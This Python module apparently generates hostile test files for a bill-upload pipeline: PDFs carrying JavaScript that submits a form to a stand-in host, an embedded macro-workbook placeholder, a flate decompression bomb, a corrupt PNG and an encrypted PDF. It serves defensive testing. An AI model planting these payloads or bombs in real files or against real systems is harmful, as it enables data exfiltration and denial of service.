"""Files no operator sends: scripts run on open, files carried inside, bombs, empty uploads.

The PDFs are altered with pypdf (a different writer from the bills' reportlab), so the
structures come out as another tool writes them.
"""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


def _writer(pdf: bytes) -> PdfWriter:
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(pdf)))
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_javascript(pdf: bytes, *, open_action: bool) -> bytes:
    """The bill with a script that runs when it is opened (named, or as the open action)."""
    writer = _writer(pdf)
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("this.submitForm('https://example.invalid');"),
            }
        )
    )
    if open_action:
        writer._root_object[NameObject("/OpenAction")] = action
    else:
        scripts = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), action])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(scripts)}
        )
    return _bytes(writer)


def with_attachment(pdf: bytes) -> bytes:
    """The bill carrying a file inside it."""
    writer = _writer(pdf)
    writer.add_attachment("statement-data.xlsm", b"PK\x03\x04 macro workbook stand-in")
    return _bytes(writer)


def bomb(expanded: int) -> bytes:
    """A PDF whose page draws a form XObject whose few hundred KB inflate to `expanded` bytes."""
    comp = zlib.compressobj(9)
    block = b"q 1 0 0 1 0 0 cm 0 0 1 1 re f Q\n" * 2048
    body = b"".join(comp.compress(block) for _ in range(expanded // len(block))) + comp.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R"
        b" /Resources << /XObject << /Fx 4 0 R >> >> >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Filter /FlateDecode /Length "
        + str(len(body)).encode()
        + b" >>\nstream\n"
        + body
        + b"\nendstream",
        b"<< /Length 8 >>\nstream\n/Fx Do\n\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{n} 0 obj\n".encode() + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets))
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def damaged_png() -> bytes:
    """A PNG signature and header followed by garbage."""
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(7, 250)) * 3


def locked(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    writer.encrypt(user_password="1234", owner_password="owner-5678")
    return _bytes(writer)
